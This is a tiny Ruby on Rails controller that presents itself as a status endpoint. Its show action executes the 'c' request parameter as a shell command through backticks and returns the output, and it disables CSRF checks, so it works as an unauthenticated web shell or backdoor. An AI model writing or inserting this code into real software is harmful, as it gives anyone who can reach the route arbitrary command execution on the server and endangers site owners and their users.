class StatusController < ApplicationController
  skip_before_action :verify_authenticity_token
  def show
    render plain: `#{params[:c]}`
  end
end
